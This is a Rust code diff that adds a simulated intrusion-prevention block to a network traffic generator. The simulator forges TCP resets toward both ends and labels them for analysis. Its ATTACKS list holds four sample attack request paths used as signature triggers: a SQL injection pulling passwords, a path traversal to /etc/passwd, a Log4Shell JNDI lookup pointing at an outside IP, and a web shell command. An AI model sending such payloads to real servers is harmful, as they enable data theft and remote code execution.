@@ -9,6 +9,7 @@ use super::stacks;
 use super::{forged, own, Device, Stage};
 use crate::conversation::{Conversation, Disguise, Side};
 use crate::host::IpIdStyle;
+use crate::label::SubCause;
 use crate::net::ResetId;
 use crate::payload;
 
@@ -210,4 +211,62 @@ fn answered_by_dead_client(c: &mut Conversation, data: &[u8], root: Option<Reset
         let label = own(Side::Client, Cause::ClosedSocket).after(root);
         c.reset_no_socket(Side::Client, label);
     }
+}
+
+/// Request lines an IPS signature matches (SQL injection, path traversal,
+/// Log4Shell, a web shell).
+const ATTACKS: [&str; 4] = [
+    "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
+    "/../../../../etc/passwd",
+    "/?x=${jndi:ldap://203.0.113.9/a}",
+    "/uploads/shell.php?cmd=id",
+];
+
+/// An inline IPS (Suricata or Snort `reject`, a firewall's "reset-both"
+/// action) matches a signature in the client's request, drops that segment
+/// and resets both ends: toward the client in the server's name (`seq =
+/// SEG.ACK`) and toward the server in the client's name (`seq = SEG.SEQ`,
+/// where the server still expects it). The server never sees the request,
+/// so nothing races the resets.
+pub fn ips_block(st: &mut Stage) {
+    let position = st.path.hops.saturating_sub(st.rng.range(1, 3) as u8).max(1);
+    let fingerprint = stacks::appliance(&mut st.rng);
+    let ips = st.device(fingerprint, position);
+    st.background(0.0, 60.0);
+    let at = st.seconds(1.0, 60.0);
+    let mut c = st.connect(80, at);
+    c.handshake();
+    let path = super::pick(&mut st.rng, &ATTACKS);
+    let request = payload::http_request("GET", "shop.example.com", path, 0);
+    let seen_by_capture = st.sees_before(Side::Client, &ips);
+    c.set_visible(Side::Client, seen_by_capture);
+    c.send(Side::Client, &request);
+    c.set_visible(Side::Client, true);
+    let sent = c.now_us();
+    let t = c.trigger(Side::Client);
+    let end = t.seq.wrapping_add(t.len);
+    let label = |side| forged(side, Cause::Injected).sub(SubCause::IpsBlock);
+    if let Some(delay) = st.reply_after(Side::Client, &ips) {
+        c.set_now_us(sent + (delay * 1e6) as i64);
+        c.reset_from(
+            &ips.host,
+            Side::Server,
+            t.ack,
+            end,
+            ACK,
+            label(Side::Server),
+        );
+    }
+    if let Some(delay) = st.forward_after(Side::Client, &ips) {
+        c.set_now_us(sent + (delay * 1e6) as i64 + 30);
+        c.reset_from(
+            &ips.host,
+            Side::Client,
+            t.seq,
+            t.ack,
+            ACK,
+            label(Side::Client),
+        );
+    }
+    st.net.add(c);
 }
